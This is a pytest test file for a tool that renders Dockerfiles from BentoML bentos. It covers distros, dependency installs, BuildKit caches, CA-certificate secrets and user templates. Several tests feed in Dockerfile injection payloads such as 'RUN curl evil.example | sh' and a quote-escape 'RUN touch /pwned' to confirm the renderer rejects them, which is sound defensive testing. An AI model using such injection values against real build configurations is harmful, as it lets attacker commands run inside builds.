"""render_dockerfile: distros, Python deps, BuildKit on/off, CA bundle, quoting, user templates."""

from __future__ import annotations

import re
import warnings
from collections.abc import Callable
from pathlib import Path

import pytest

from pipeline.backends import buildah, podman
from pipeline.config import Bento
from pipeline.errors import ConfigError, GraphError, PipelineWarning, TemplateError
from pipeline.graph import Stage, default_graph
from pipeline.rendering import CA_CERT_SECRET_ID, RenderOptions, render_dockerfile
from pipeline.requirements import bento_source_builds

MakeBento = Callable[..., Bento]  # the make_bento fixture (tests/render/conftest.py)


def instructions(dockerfile: str) -> list[str]:
    """Logical Dockerfile lines (continuations joined), without blanks."""
    joined = re.sub(r"\s*\\\n\s*", " ", dockerfile)
    return [line.strip() for line in joined.splitlines() if line.strip()]


def keywords(dockerfile: str) -> list[str]:
    return [line.split()[0] for line in instructions(dockerfile)]


def render_quiet(*args: object, **kwargs: object) -> str:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        return render_dockerfile(*args, **kwargs)  # type: ignore[arg-type]


def test_default_debian(make_bento: MakeBento) -> None:
    text = render_quiet(make_bento())
    lines = instructions(text)
    assert lines[0] == "FROM python:3.11-slim AS base-container"
    assert lines[-2:] == [
        'ENTRYPOINT [ "/home/bentoml/bento/env/docker/entrypoint.sh" ]',
        'CMD ["bentoml", "serve", "/home/bentoml/bento", "--production"]',
    ]
    assert "EXPOSE 3000" in lines
    assert "USER bentoml" in lines
    assert "WORKDIR /home/bentoml/bento" in lines
    assert any(line.startswith("RUN groupadd -g 1034 -o bentoml && useradd") for line in lines)
    assert text.endswith("\n") and not text.endswith("\n\n")


def test_portable_output(make_bento: MakeBento) -> None:
    text = render_quiet(make_bento(docker={"system_packages": ("curl",)}), RenderOptions())
    assert "# syntax" not in text
    assert "<<" not in text  # no heredocs
    assert "SHELL" not in keywords(text)
    # base-container, the build stage, the runtime stage
    assert keywords(text).count("FROM") == 3


def test_render_is_byte_identical(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"env": {"A": "1", "B": "2"}, "system_packages": ("git", "curl")})
    assert render_quiet(bento) == render_quiet(bento)


def test_no_requirements_installs_nothing(make_bento: MakeBento) -> None:
    text = render_quiet(make_bento())
    assert "RUN python3 -m venv --without-pip /app/.venv" in instructions(text)
    assert "pip install" not in text
    assert "apt-get" not in text


def test_requirements_are_installed_into_the_venv(make_bento: MakeBento) -> None:
    bento = make_bento(files={"env/python/requirements.txt": "# locked\nrequests==2.32.3\n"})
    text = render_quiet(bento)
    # uv (bootstrapped by pip into a throwaway venv, in its own layer before the requirements
    # are copied: a changed requirement reuses it) installs into a pip-less venv, wheels only
    # first; compilers come only when that fails
    bootstrap = "python3 -m venv /tmp/uv && /tmp/uv/bin/pip install -q uv=="
    assert text.index(bootstrap) < text.index("COPY ./env/python /tmp/bento/env/python/"), text
    assert "cd /tmp/bento && python3 -m venv --without-pip /app/.venv && export" in text
    install = "/tmp/uv/bin/uv pip install --python /app/.venv/bin/python"
    assert f"if ! {install} --no-build -r /tmp/bento/env/python/requirements.txt; then" in text
    assert (
        "apt-get install -q -y --no-install-recommends build-essential $headers "
        f"&& {install} -r /tmp/bento/env/python/requirements.txt; fi\n"
    ) in text
    # the interpreter's headers come along only when it lacks them (a distro's own python3)
    assert (
        "headers=$(test -e \"$(python3 -c 'import sysconfig; "
        'print(sysconfig.get_path("include"))\')/Python.h" || echo python3-dev)' in text
    )
    assert "--mount=type=cache,target=/root/.cache/pip" in text
    assert "--mount=type=cache,target=/root/.cache/uv" in text
    assert "UV_COMPILE_BYTECODE=1" in text


def test_requirements_without_wheels_get_the_compilers_first(make_bento: MakeBento) -> None:
    bento = make_bento(
        files={
            "env/python/requirements.txt": "crcmod==1.7\n",
            "env/python/build-from-source.txt": "crcmod\n",
        }
    )
    text = render_quiet(bento, RenderOptions(source_builds=bento_source_builds(bento)))
    toolchain = "apt-get install -q -y --no-install-recommends build-essential $headers"
    # a layer of their own before the requirements are copied: a dependency change reuses it
    assert text.index(toolchain) < text.index("COPY ./env/python /tmp/bento/env/python/"), text
    assert text.count(toolchain) == 1
    assert "--no-build" not in text  # no wheels-only attempt: it is known to fail
    install = "/tmp/uv/bin/uv pip install --python /app/.venv/bin/python"
    assert f"{install} -r /tmp/bento/env/python/requirements.txt\n" in text


def test_a_stored_bento_without_the_record_is_checked_on_this_machine(
    make_bento: MakeBento, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """BentoML's bentos carry no build-from-source.txt: uv finds the sdist-only pin here."""
    monkeypatch.setenv("PIPELINE_CACHE_DIR", str(tmp_path / "cache"))
    bento = make_bento(files={"env/python/requirements.txt": "crcmod==1.7\n"})
    assert bento_source_builds(bento) == ("crcmod",)  # the shell asks uv
    text = render_quiet(bento, RenderOptions(source_builds=bento_source_builds(bento)))
    toolchain = "apt-get install -q -y --no-install-recommends build-essential $headers"
    assert text.index(toolchain) < text.index("COPY ./env/python /tmp/bento/env/python/"), text
    assert "--no-build" not in text


def test_pip_args_keep_pip_as_the_installer(make_bento: MakeBento) -> None:
    bento = make_bento(python={"packages": ("six",), "pip_args": "--pre"})
    text = render_quiet(bento)
    assert (
        "if ! /app/.venv/bin/pip install --pre --only-binary=:all: -r "
        "/tmp/bento/env/python/requirements.txt; then"
    ) in text
    assert "uv pip install" not in text


def test_comment_only_requirements_count_as_none(make_bento: MakeBento) -> None:
    bento = make_bento(files={"env/python/requirements.txt": "# nothing\n\n"})
    assert "pip install" not in render_quiet(bento)


def test_pip_options_are_quoted(make_bento: MakeBento) -> None:
    bento = make_bento(
        python={
            "packages": ("numpy",),
            "index_url": "https://example.org/simple?a=1&b=2",
            "pip_args": "--pre --timeout 5",
        }
    )
    text = render_quiet(bento)
    assert "--index-url 'https://example.org/simple?a=1&b=2'" in text
    assert "--pre --timeout 5" in text


def test_wheels_are_installed(make_bento: MakeBento) -> None:
    bento = make_bento(files={"env/python/wheels/demo-1.0-py3-none-any.whl": "x"})
    text = render_quiet(bento)
    assert " /tmp/bento/env/python/wheels/demo-1.0-py3-none-any.whl" in text
    single = render_quiet(bento, graph=default_graph(buildstage=False))
    assert " /home/bentoml/bento/env/python/wheels/demo-1.0-py3-none-any.whl" in single


@pytest.mark.parametrize(
    ("distro", "python", "image", "expected"),
    [
        (
            "debian",
            "3.12",
            "python:3.12-slim",
            "apt-get install -q -y --no-install-recommends curl",
        ),
        ("alpine", "3.11", "python:3.11-alpine", "apk add --no-cache curl"),
        ("ubi8", "3.11", "registry.access.redhat.com/ubi8/python-311:1", "yum install -y curl"),
        ("amazonlinux", "3.8", "amazonlinux:2", "yum install -y curl"),
        ("miniconda", "3.11", "continuumio/miniconda3:latest", "apt-get install"),
    ],
)
def test_distros(
    make_bento: MakeBento, distro: str, python: str, image: str, expected: str
) -> None:
    bento = make_bento(
        docker={"distro": distro, "python_version": python, "system_packages": ("curl",)}
    )
    text = render_quiet(bento)
    assert instructions(text)[0] == f"FROM {image} AS base-container"
    assert expected in text


def test_alpine_creates_users_with_busybox(make_bento: MakeBento) -> None:
    text = render_quiet(make_bento(docker={"distro": "alpine"}))
    assert "adduser -S -D -u 1034 -G bentoml -h /home/bentoml" in text
    assert "useradd" not in text


def test_ubi8_switches_to_root_first(make_bento: MakeBento) -> None:
    lines = instructions(render_quiet(make_bento(docker={"distro": "ubi8"})))
    assert lines[1] == "USER root"


def test_amazonlinux_installs_python(make_bento: MakeBento) -> None:
    text = render_quiet(make_bento(docker={"distro": "amazonlinux", "python_version": "3.8"}))
    assert "amazon-linux-extras enable python3.8" in text
    assert "RUN python3.8 -m venv --without-pip /app/.venv" in text


def test_cuda_image_gets_the_requested_python(make_bento: MakeBento) -> None:
    # ubuntu 24.04's python3 is 3.12: 3.11 comes from the deadsnakes PPA (as BentoML does)
    text = render_quiet(make_bento(docker={"cuda_version": "12.8.1"}))
    lines = instructions(text)
    assert lines[0] == "FROM nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04 AS base-container"
    (setup,) = [line for line in lines if "python3.11-venv" in line]
    assert "add-apt-repository -y ppa:deadsnakes/ppa" in setup
    assert "install -q -y --no-install-recommends python3.11 python3.11-venv" in setup
    assert " python3 " not in setup and "python3-venv" not in setup
    assert "RUN python3.11 -m venv --without-pip /app/.venv" in lines


@pytest.mark.parametrize(
    ("cuda", "python", "packages"),
    [
        ("12.8.1", "3.12", "python3.12 python3.12-venv"),  # ubuntu 24.04's own python3
        ("12.1.1", "3.10", "python3.10 python3.10-venv"),  # ubuntu 22.04's own python3
    ],
)
def test_cuda_image_uses_the_os_python_when_it_is_the_one_asked_for(
    make_bento: MakeBento, cuda: str, python: str, packages: str
) -> None:
    text = render_quiet(make_bento(docker={"cuda_version": cuda, "python_version": python}))
    assert f"--no-install-recommends {packages}" in text
    assert "deadsnakes" not in text
    assert f"RUN python{python} -m venv --without-pip /app/.venv" in instructions(text)


def test_cuda_ubi8_installs_the_requested_python(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"distro": "ubi8", "cuda_version": "12.1.1", "python_version": "3.9"})
    text = render_quiet(bento)
    assert "yum install -y python39 && yum clean all" in text
    assert "RUN python3.9 -m venv --without-pip /app/.venv" in instructions(text)


def test_cuda_python_the_image_cannot_have_is_refused_at_render(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"cuda_version": "12.1.1", "python_version": "3.14"})
    with pytest.raises(ConfigError, match=r"Python 3.14 cannot be installed.*ubuntu22.04") as info:
        render_quiet(bento)
    assert info.value.field == "docker.python_version"
    assert "'3.9', '3.10', '3.11', '3.12' or '3.13'" in str(info.value)


def test_base_image_and_setup_script(make_bento: MakeBento) -> None:
    bento = make_bento(
        docker={"base_image": "my/base:1", "setup_script": "env/docker/setup_script"},
        files={"env/docker/setup_script": "#!/bin/sh\necho hi\n"},
    )
    text = render_quiet(bento)
    lines = instructions(text)
    assert lines[0] == "FROM my/base:1 AS base-container"
    assert "RUN chmod +x ./env/docker/setup_script && ./env/docker/setup_script" in lines
    # unknown distro: user creation that works with shadow-utils or busybox
    assert "command -v useradd" in text
    # as in BentoML: after the packages and the code (it may use both), from the bento dir
    setup = lines.index("RUN chmod +x ./env/docker/setup_script && ./env/docker/setup_script")
    assert lines.index("COPY --from=buildstage /app/.venv /app/.venv") < setup
    assert lines.index("COPY --chown=1034:1034 . ./") < setup


def test_env_and_labels_are_quoted(make_bento: MakeBento) -> None:
    bento = make_bento(
        docker={"env": {"GREETING": 'say "hi" $USER \\o/'}},
        labels={"owner": "a$b", "team.name": 'x"y'},
    )
    lines = instructions(render_quiet(bento))
    assert 'ENV GREETING="say \\"hi\\" \\$USER \\\\o/"' in lines
    assert 'LABEL owner="a\\$b" team.name="x\\"y"' in lines


def test_newline_in_env_value_cannot_add_an_instruction(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"env": {"EVIL": "x\nRUN curl evil.example | sh"}})
    with pytest.raises(ConfigError) as info:
        render_dockerfile(bento)
    assert info.value.field == "docker.env.EVIL"
    assert info.value.file == str(bento.bento_yaml)  # the config, not our template


def test_quote_in_env_value_cannot_add_an_instruction(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"env": {"EVIL": '" \\\nRUN touch /pwned #'}})
    with pytest.raises(ConfigError, match="newline"):
        render_dockerfile(bento)
    bento = make_bento(docker={"env": {"EVIL": '"; RUN touch /pwned; echo "'}})
    lines = instructions(render_quiet(bento))
    assert not any(line.startswith("RUN touch") for line in lines)
    assert sum(1 for line in lines if "EVIL=" in line) == 1


def test_bad_env_name(make_bento: MakeBento) -> None:
    with pytest.raises(ConfigError) as info:
        render_dockerfile(make_bento(docker={"env": {"A B": "1"}}))
    assert info.value.field == "docker.env.A B"


def test_package_that_looks_like_an_option_is_refused(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"system_packages": ("curl", "-oAPT::Get::AllowUnauthenticated=1")})
    with pytest.raises(ConfigError) as info:
        render_dockerfile(bento)
    assert info.value.field == "docker.system_packages[1]"


def test_spec2_commands_must_stay_on_one_line(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"commands": ("echo ok", "echo a\nRUN evil")})
    with pytest.raises(ConfigError) as info:
        render_dockerfile(bento)
    assert info.value.field == "docker.commands[1]"


def test_spec2_commands_run_around_the_python_install(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"commands": ("echo before",), "post_commands": ("echo after",)})
    lines = instructions(render_quiet(bento))
    # commands in the shared base (both stages have them), post_commands after the venv
    build = lines.index("FROM base-container AS buildstage")
    venv = lines.index("COPY --from=buildstage /app/.venv /app/.venv")
    assert lines.index("RUN echo before") < build < venv < lines.index("RUN echo after")
    single = instructions(render_quiet(bento, graph=default_graph(buildstage=False)))
    venv = next(i for i, line in enumerate(single) if "-m venv --without-pip /app/.venv" in line)
    assert single.index("RUN echo before") < venv < single.index("RUN echo after")


# -- BuildKit and the CA bundle -------------------------------------------------------------------


def test_buildkit_caches(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"system_packages": ("curl",)}, python={"packages": ("six",)})
    text = render_quiet(bento)
    assert "--mount=type=cache,target=/var/cache/apt,sharing=locked" in text
    assert "--mount=type=cache,target=/root/.cache/pip" in text


def test_no_buildkit_drops_mounts_with_a_warning(make_bento: MakeBento) -> None:
    bento = make_bento(docker={"system_packages": ("curl",)}, python={"packages": ("six",)})
    with pytest.warns(PipelineWarning) as record:
        text = render_dockerfile(bento, RenderOptions(buildkit=False))
    assert "--mount" not in text
    assert "rm -rf /var/lib/apt/lists/*" in text
    assert "--no-cache-dir" in text
    message = str(record[0].message)
    assert "apt cache" in message and "pip cache" in message


def test_no_buildkit_without_anything_to_drop_is_silent(make_bento: MakeBento) -> None:
    text = render_quiet(make_bento(), RenderOptions(buildkit=False))
    assert "--mount" not in text


def test_ca_cert_mounts_the_secret_on_every_download(make_bento: MakeBento) -> None:
    bento = make_bento(
        docker={"system_packages": ("curl",), "setup_script": "env/docker/setup_script"},
        python={"packages": ("six",)},
        files={"env/docker/setup_script": "#!/bin/sh\n"},
    )
    text = render_quiet(bento, RenderOptions(ca_cert=True))
    runs = [line for line in instructions(text) if line.startswith("RUN ")]
    downloading = [r for r in runs if re.search(r"apt-get|pip install|setup_script", r)]
    # system packages, the uv bootstrap, the requirements, the setup script
    assert len(downloading) == 4
    for run in downloading:
        assert f"--mount=type=secret,id={CA_CERT_SECRET_ID}" in run
        assert "PIP_CERT=/run/secrets/ca_cert" in run
        assert "SSL_CERT_FILE=/run/secrets/ca_cert" in run
        assert "REQUESTS_CA_BUNDLE=/run/secrets/ca_cert" in run
    assert "-o Acquire::https::CAInfo=/run/secrets/ca_cert" in text
    # never in the image's configuration
    for line in instructions(text):
        if line.split()[0] in ("ENV", "ARG", "LABEL", "COPY"):
            assert "ca_cert" not in line
    # the venv without downloads does not need it
    assert not [r for r in runs if "groupadd" in r and "secret" in r]


def test_ca_cert_needs_buildkit(make_bento: MakeBento) -> None:
    with pytest.raises(ConfigError) as info:
        render_dockerfile(make_bento(), RenderOptions(ca_cert=True, buildkit=False))
    assert info.value.field == "ca_cert"


# -- graphs ---------------------------------------------------------------------------------------


def test_buildstage_keeps_compilers_out_of_the_image(make_bento: MakeBento) -> None:
    bento = make_bento(python={"packages": ("numpy",)}, docker={"system_packages": ("curl",)})
    lines = instructions(render_quiet(bento))
    froms = [line for line in lines if line.startswith("FROM ")]
    assert froms == [
        "FROM python:3.11-slim AS base-container",
        "FROM base-container AS buildstage",
        "FROM base-container AS runtime",
    ]
    base = lines[: lines.index(froms[1])]
    build = lines[lines.index(froms[1]) : lines.index(froms[2])]
    runtime = lines[lines.index(froms[2]) :]
    # system packages once, in the shared base; compilers only in the build stage
    assert sum("install -q -y --no-install-recommends curl" in line for line in base) == 1
    assert any("build-essential" in line for line in build)
    assert not any("build-essential" in line or "pip" in line for line in runtime)
    assert "COPY --from=buildstage /app/.venv /app/.venv" in runtime
    # dependencies before code: the venv layer does not depend on the bento's source
    assert runtime.index("COPY --from=buildstage /app/.venv /app/.venv") < runtime.index(
        "COPY --chown=1034:1034 . ./"
    )
    assert not any(line.startswith("COPY . ") or "COPY ./src" in line for line in build)


def test_single_stage_layout_is_one_image(make_bento: MakeBento) -> None:
    bento = make_bento(python={"packages": ("numpy",)})
    lines = instructions(render_quiet(bento, graph=default_graph(buildstage=False)))
    assert [line for line in lines if line.startswith("FROM ")] == [
        "FROM python:3.11-slim AS base-container"
    ]
    assert not any("build-essential" in line for line in lines)
    assert any("uv pip install --python /app/.venv/bin/python -r " in line for line in lines)


def test_bentomls_toolchain_line_moves_to_the_build_stage(make_bento: MakeBento) -> None:
    toolchain = (
        "apt-get update && apt-get install -q -y --no-install-recommends "
        "--allow-remove-essential ca-certificates gnupg2 bash build-essential git"
    )
    bento = make_bento(
        docker={
            "base_image": "python:3.11-slim",
            "commands": (toolchain, "apt-get install -q -y curl"),
        },
        python={"requirements_text": "bentoml==1.4.40\n"},
    )
    lines = instructions(render_quiet(bento))
    runtime = lines[lines.index("FROM base-container AS runtime") :]
    assert toolchain not in "\n".join(lines)
    assert not any("build-essential" in line or " git" in line for line in runtime)
    # the later apt-get install still finds package lists
    update = next(i for i, line in enumerate(lines) if line.endswith(" apt-get update -q"))
    install = next(
        i for i, line in enumerate(lines) if line.endswith(" apt-get install -q -y curl")
    )
    assert update < install
    build = "\n".join(lines[: lines.index("FROM base-container AS runtime")])
    assert "apt-get install -q -y --no-install-recommends build-essential git" in build


def test_custom_stage_from_python(make_bento: MakeBento) -> None:
    graph = default_graph().add(
        Stage("tools", image="alpine:3.20", instructions=["RUN echo built > /tool"]),
        before="base",
    )
    graph = graph.depend("components", on="tools", src="/tool", dest="/usr/local/share/tool")
    graph = graph.add(
        Stage("models", instructions=["RUN echo {{ bento__path }} > /models.txt"]),
        after="components",
    )
    lines = instructions(render_quiet(make_bento(), graph=graph))
    assert lines[:2] == ["FROM alpine:3.20 AS tools", "RUN echo built > /tool"]
    assert "COPY --from=tools /tool /usr/local/share/tool" in lines
    models = lines.index("RUN echo /home/bentoml/bento > /models.txt")
    assert models < lines.index("EXPOSE 3000")


def test_custom_stage_copy_paths_are_checked() -> None:
    graph = default_graph().add(Stage("tools", image="alpine:3"), before="base")
    with pytest.raises(GraphError, match="src '/a b'"):
        graph.depend("components", on="tools", src="/a b", dest="/x")


def test_graph_errors_surface(make_bento: MakeBento) -> None:
    with pytest.raises(GraphError):
        render_dockerfile(make_bento(), graph=default_graph().depend("base", on="entrypoint"))


# -- user templates -------------------------------------------------------------------------------


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_user_template_extends_with_super(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(
        tmp_path / "Dockerfile.template",
        "{% extends bento_base_template %}\n"
        "{% block SETUP_BENTO_ENVARS %}\n{{ super() }}\nRUN echo envars-done\n{% endblock %}\n",
    )
    lines = instructions(render_quiet(make_bento(), RenderOptions(template=template)))
    assert lines[lines.index("WORKDIR /home/bentoml/bento") + 1] == "RUN echo envars-done"


def test_bentos_own_template_is_used(make_bento: MakeBento) -> None:
    bento = make_bento(
        docker={"dockerfile_template": "env/docker/Dockerfile.template"},
        files={
            "env/docker/Dockerfile.template": "{% extends bento_base_template %}\n"
            "{% block SETUP_BENTO_USER %}\nRUN echo no-user\n{% endblock %}\n"
        },
    )
    text = render_quiet(bento)
    assert "RUN echo no-user" in text and "useradd" not in text


def test_variables_set_in_the_template(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(
        tmp_path / "vars.j2",
        "{% extends bento_base_template %}\n"
        '{% set bento__user = "svc" %}\n{% set bento__uid_gid = "2000:3000" %}\n',
    )
    text = render_quiet(make_bento(), RenderOptions(template=template))
    assert "groupadd -g 3000 -o svc && useradd -m -d /home/svc -u 2000 -g 3000" in text
    assert "USER svc" in text
    assert 'ENTRYPOINT [ "/home/svc/bento/env/docker/entrypoint.sh" ]' in text
    assert "COPY --chown=2000:3000 . ./" in text


def test_bad_variable_value_names_the_variable(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(
        tmp_path / "vars.j2",
        '{% extends bento_base_template %}\n{% set bento__path = "/srv/my bento" %}\n',
    )
    with pytest.raises(TemplateError) as info:
        render_dockerfile(make_bento(), RenderOptions(template=template))
    assert info.value.field == "bento__path"
    assert info.value.file == str(template)


def test_filter_error_in_a_user_template_has_file_and_line(
    make_bento: MakeBento, tmp_path: Path
) -> None:
    template = write(
        tmp_path / "f.j2",
        "{% extends bento_base_template %}\n{% block SETUP_BENTO_USER %}\n"
        '{{ super() }}\nRUN echo {{ "a\\nb" | shell_word("my.value") }}\n{% endblock %}\n',
    )
    with pytest.raises(ConfigError) as info:
        render_dockerfile(make_bento(), RenderOptions(template=template))
    assert (info.value.file, info.value.line, info.value.field) == (str(template), 4, "my.value")


def test_unknown_distro(make_bento: MakeBento) -> None:
    with pytest.raises(ConfigError) as info:
        render_dockerfile(make_bento(docker={"distro": "gentoo"}))
    assert info.value.field == "docker.distro"
    assert "'debian'" in str(info.value)


def test_syntax_error_has_file_and_line(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(
        tmp_path / "broken.j2",
        "{% extends bento_base_template %}\n{% block SETUP_BENTO_USER %}\n"
        "{{ super() }\n{% endblock %}\n",
    )
    with pytest.raises(TemplateError) as info:
        render_dockerfile(make_bento(), RenderOptions(template=template))
    assert info.value.file == str(template)
    assert info.value.line == 3
    assert str(info.value).startswith(f"{template}:3: template syntax error")


def test_undefined_variable_has_file_and_line(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(
        tmp_path / "undef.j2",
        "{% extends bento_base_template %}\n{% block SETUP_BENTO_USER %}\n"
        "{{ super() }}\nRUN echo {{ no_such_thing }}\n{% endblock %}\n",
    )
    with pytest.raises(TemplateError) as info:
        render_dockerfile(make_bento(), RenderOptions(template=template))
    assert (info.value.file, info.value.line) == (str(template), 4)
    assert "no_such_thing" in str(info.value)


@pytest.mark.parametrize("name", ["Dockerfile", "template.txt", "x.j2.bak"])
def test_template_extension_is_checked(make_bento: MakeBento, tmp_path: Path, name: str) -> None:
    template = write(tmp_path / name, "{% extends bento_base_template %}\n")
    with pytest.raises(TemplateError, match=r"\.j2, \.template, \.jinja"):
        render_dockerfile(make_bento(), RenderOptions(template=template))


def test_missing_template(make_bento: MakeBento, tmp_path: Path) -> None:
    with pytest.raises(TemplateError, match="not found"):
        render_dockerfile(make_bento(), RenderOptions(template=tmp_path / "nope.j2"))


def test_quoted_extends_is_explained(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(tmp_path / "q.j2", '{% extends "bento_base_template" %}\n')
    with pytest.raises(TemplateError) as info:
        render_dockerfile(make_bento(), RenderOptions(template=template))
    assert "no quotes" in str(info.value)


def test_secret_mount_refused_without_buildkit(make_bento: MakeBento, tmp_path: Path) -> None:
    template = write(
        tmp_path / "s.template",
        "{% extends bento_base_template %}\n{% block SETUP_BENTO_COMPONENTS %}\n{{ super() }}\n"
        "RUN --mount=type=secret,id=aws,target=/root/.aws/credentials \\\n    true\n"
        "{% endblock %}\n",
    )
    with pytest.raises(TemplateError) as info:
        render_dockerfile(make_bento(), RenderOptions(template=template, buildkit=False))
    assert (info.value.file, info.value.line) == (str(template), 4)
    assert "BuildKit" in str(info.value)
    # with BuildKit the same template renders
    assert "--mount=type=secret,id=aws" in render_quiet(
        make_bento(), RenderOptions(template=template)
    )


def test_an_engine_limited_to_one_locked_cache_gets_one_per_run(make_bento: MakeBento) -> None:
    """podman 4.3 / buildah 1.28 hang on a RUN with two `sharing=locked` cache mounts after an
    earlier stage held the same two; for them apt caches only its archives."""
    bento = make_bento(
        docker={"system_packages": ("curl",)},
        files={
            "env/python/requirements.txt": "crcmod==1.7\n",
            "env/python/build-from-source.txt": "crcmod\n",
        },
    )
    found = bento_source_builds(bento)
    limited = render_quiet(bento, RenderOptions(max_locked_cache_mounts=1, source_builds=found))
    apt_runs = [line for line in instructions(limited) if "apt-get" in line]
    assert len(apt_runs) >= 2  # the base stage's packages and the build stage's compilers
    for line in apt_runs:
        assert line.count("sharing=locked") == 1, line
        assert "target=/var/cache/apt,sharing=locked" in line
    unlimited = render_quiet(bento)
    assert all(
        line.count("sharing=locked") == 2 for line in instructions(unlimited) if "apt-get" in line
    )
    for engine in (podman, buildah):
        assert engine.SPEC.max_locked_cache_mounts == 1


def test_rendering_runs_no_process(make_bento: MakeBento, monkeypatch: pytest.MonkeyPatch) -> None:
    """The renderer is pure: a BentoML bento without our source-builds record renders without
    asking uv (the shell does, and says so in RenderOptions.source_builds)."""
    import subprocess

    def no_process(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"the renderer ran {args!r}")

    bento = make_bento(files={"env/python/requirements.txt": "crcmod==1.7\n"})
    monkeypatch.setattr(subprocess, "run", no_process)
    monkeypatch.setattr(subprocess, "Popen", no_process)
    plain = render_quiet(bento)
    told = render_quiet(bento, RenderOptions(source_builds=("crcmod",)))
    assert "--no-build" in plain and "--no-build" not in told
